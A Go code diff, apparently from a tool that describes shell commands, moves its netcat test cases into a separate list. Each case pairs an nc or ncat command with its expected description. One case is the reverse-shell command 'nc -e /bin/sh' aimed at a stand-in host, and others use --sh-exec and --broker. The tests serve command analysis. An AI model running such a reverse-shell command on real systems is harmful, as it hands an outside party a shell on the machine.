@@ -25,15 +25,16 @@ var nc = Program{
 		},
 		Stdin: []In{{Role: Data}},
 	},
-	Cases: []Case{
-		{`nc -zv h.test 80`, `Query h.test`},
-		{`nc -w 3 h.test 80`, `Send h.test`},
-		{`nc -z localhost 5432`, `Query localhost`},
-		{`nc -lk 9000`, `Expose a port`},
-		{`nc -e /bin/sh h.test 1`, `Send h.test; Expose{tunnel} a program of this machine; Run[line] /bin/sh`},
-		{`ncat --sh-exec 'cat' -l 1`, `Expose{tunnel} a program of this machine; Run[line] cat; Expose a port`},
-		{`ncat --broker -l 1`, `Expose{tunnel} a relay; Expose a port`},
-		{`ncat --proxy p.test --ssl-cert c h.test 1`, `Send h.test; Send p.test; Read c`},
-		{`nc -x p h.test 1`, `Send h.test; Unknown is a file that it writes, or a proxy`},
-	},
+}
+
+var ncCases = []Case{
+	{`nc -zv h.test 80`, `Query h.test`},
+	{`nc -w 3 h.test 80`, `Send h.test`},
+	{`nc -z localhost 5432`, `Query localhost`},
+	{`nc -lk 9000`, `Expose a port`},
+	{`nc -e /bin/sh h.test 1`, `Send h.test; Expose{tunnel} a program of this machine; Run[line] /bin/sh`},
+	{`ncat --sh-exec 'cat' -l 1`, `Expose{tunnel} a program of this machine; Run[line] cat; Expose a port`},
+	{`ncat --broker -l 1`, `Expose{tunnel} a relay; Expose a port`},
+	{`ncat --proxy p.test --ssl-cert c h.test 1`, `Send h.test; Send p.test; Read c`},
+	{`nc -x p h.test 1`, `Send h.test; Unknown is a file that it writes, or a proxy`},
 }
